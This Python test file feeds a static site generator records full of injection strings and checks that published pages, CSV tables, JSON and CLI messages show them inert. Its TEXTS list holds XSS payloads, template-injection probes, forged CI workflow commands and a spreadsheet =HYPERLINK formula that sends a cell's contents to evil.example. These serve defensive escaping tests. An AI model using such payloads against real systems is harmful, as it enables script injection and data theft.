"""A world whose every text is hostile: published inert, and to be read exactly as it was typed."""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from selectolax.lexbor import LexborHTMLParser

from generator import build, cli
from generator.checking import check
from generator.exports.dump import dump
from generator.history import History
from generator.knowledge_base import KnowledgeBase
from generator.publishing import publish
from generator.settings import read_assets
from generator.writing import write_changed
from tests.test_cli import kb as run
from tests.worlds import ROOT, TODAY, World, make_world

pytestmark = pytest.mark.xdist_group("hostile_world")

# One of each kind of mischief: markup, handlers, templates, Markdown and its extensions, formulas, logs, data formats.
TEXTS = [
    "</title><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="<svg/onload=alert(1)> <img src=x onerror=alert(1)>',
    "&lt;b&gt; &#60;script&#62; {{ 7*7 }} {% include 'x' %} ${7*7} <%= 7 %>",
    "# [x](javascript:alert(1)) ![y](https://evil.example/y.png) | `code` *em* {++x++} {#id .class onclick=alert(1)}",
    '--8<-- "pyproject.toml" [^1] *[HTML]: x :smile: $x$ [TOC]',
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
    "-2+3", "@SUM(A1)",
    'a,b;c|d"e\'f\\g ]]> --> <!-- </textarea></style></svg>',
    "::error file=x::forged %0A::warning::y __proto__ datum.x #{x} \\u003cscript>",
    "🚀 Łódź İstanbul 東京 עברית " + "🚀" * 60,
]  # fmt: skip
SOURCES = """\
sources:
  wire: {{title: {text}, publisher: {text}, type: press, url: "https://a.example/?b=1&c='d'(e)", citing: {text},
    note: {text}, published: 2026-01-02, accessed: 2026-02-02}}
"""
CLAIM = "as_of: 2025, source: wire, note: {text}, speaker: {text}"
RECORDS = {
    "companies": """\
name: {text}
aliases: [{also}]
country: US
industry: software
listing: {text}
summary: {text}
claims:
  headcount: [{{value: 900, CLAIM}}, {{value: 90, scope: {text}, CLAIM}}]
  capex: [{{unknown: {text}, source: wire, period: 2024}}]
notes: [{{topic: spending, text: {text}, source: wire, speaker: {text}}}]
""",
    "cuts": """\
company: x{number}
title: {text}
kind: layoff
announced: 2026-08-14
summary: {text}
unrelated: {text}
claims:
  roles: [{{value: 1{number}, CLAIM}}, {{low: 10, high: 20, basis: plan, CLAIM}}]
  eligible: [{{unknown: {text}, source: wire}}]
attribution: [{{cause: ai, mechanism: automation, speaker: {text}, source: wire, note: {text}}}]
""",
    "suppliers": """\
name: {text}
aliases: [{also}]
company: x{number}
country: KR
layer: power-grid
products: [{text}, {also}]
summary: {text}
claims:
  order_backlog: [{{value: KRW 10tn, scope: {text}, CLAIM}}]
deals:
  - {{customer: acme, product: {text}, value: USD 540m, circular: true, source: wire, note: {text}}}
  - {{customer_name: {text}, product: {also}, capacity: 1.2 GW, source: wire}}
""",
    "indicators": """\
name: {text}
publisher: {text}
summary: {text}
claims:
  announced_cuts: [{{value: 61200, period: 2026-01, scope: {text}, source: wire, note: {text}}}]
notes: [{{topic: method, text: {text}, source: wire}}]
""",
}


def quoted(text: str) -> str:
    return yaml.safe_dump(text, default_style='"', width=10**6, allow_unicode=True).strip()


def write_records(world: World) -> None:
    for number, text in enumerate(TEXTS, 10):
        words = {"text": quoted(text), "also": quoted(f"{text} too"), "number": number}
        for kind, shape in RECORDS.items():
            record = (shape.replace("CLAIM", CLAIM) + SOURCES).format(**words)
            world.write(f"content/{kind}/x{number}.yaml", record)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> KnowledgeBase:
    world = make_world(tmp_path_factory.mktemp("hostile"))
    write_records(world)
    checked = check(world.root, world.root / "content", TODAY)
    assert checked.kb
    assert [str(problem) for problem in checked.problems] == []
    return checked.kb


class FewDrawings:
    """A cache that knows a blank picture for all charts but each tenth: drawing takes longer than all the rest."""

    def __init__(self) -> None:
        self._asked = 0

    def get(self, key: str) -> bytes | None:
        self._asked += 1
        return b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"></svg>' if self._asked % 10 else None

    def put(self, key: str, data: bytes) -> None:
        """Keeps nothing."""


@pytest.fixture(scope="module")
def site(hostile: KnowledgeBase, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of that world; publishing looks each page over, so a script in one would end here."""
    folder = tmp_path_factory.mktemp("site")
    files = build.site(hostile, History(), read_assets(ROOT / "site_config/assets"), FewDrawings(), lambda text: None)
    write_changed(files, folder / "docs")
    publish(ROOT, folder / "docs", folder / "site", engine="mkdocs", site_url="", repo_url="", full=True,
            report=lambda text: None)  # fmt: skip
    return folder / "site"


def one_line(text: str | None) -> str:
    return " ".join((text or "").split())


@pytest.mark.parametrize("kind", RECORDS)
def test_the_text_stands_in_heading_title_description_and_body_as_it_was_typed(kind: str, site: Path) -> None:
    for number, text in enumerate(TEXTS, 10):
        page = LexborHTMLParser((site / kind / f"x{number}" / "index.html").read_bytes())
        title, description, article = (page.css_first(name) for name in ("title", "meta[name=description]", "article"))
        assert title
        assert description
        assert article
        assert one_line(title.text()).startswith(text)
        assert one_line(description.attributes["content"])
        for link in page.css(".headerlink"):
            link.decompose()
        (heading,) = page.css("h1")
        assert one_line(heading.text()) == text
        assert one_line(article.text()).count(text) > 3


def cells(site: Path) -> Iterator[str]:
    for file in site.rglob("*.csv"):
        rows = list(csv.reader(io.StringIO(file.read_text("utf-8"), newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1, file
        yield from (cell for row in rows for cell in row)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_cell_of_a_table_is_a_formula(site: Path) -> None:
    found = list(cells(site))
    assert any("HYPERLINK" in cell for cell in found)
    assert [c for c in found if c.strip()[:1] in tuple("=+-@") and not is_number(c)] == []


def test_every_json_file_is_strict_json(site: Path, hostile: KnowledgeBase) -> None:
    def refuse(constant: str) -> None:
        raise AssertionError(constant)

    for file in site.rglob("*.json"):
        json.loads(file.read_text("utf-8"), parse_constant=refuse)
    document = json.loads(dump(hostile, History()), parse_constant=refuse)
    assert {company["name"] for company in document["companies"]} >= set(TEXTS)


@pytest.mark.parametrize("text", TEXTS)
def test_a_problem_is_one_line_whatever_the_value(text: str, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cli, "ROOT", Path.cwd())
    path = world.write("content/cuts/acme-2025-06.yaml", f"company: acme\nkind: {quoted(text + chr(10) + text)}\n")
    for style, begins in (("github", "::error file="), ("text", "content/cuts/acme-2025-06.yaml:")):
        printed = run("check", "--format", style, str(path)).stdout.splitlines()
        assert len(printed) == 4
        assert all(line.startswith(begins) for line in printed)
    assert len(json.loads(run("check", "--format", "json", str(path)).stdout)) == 4
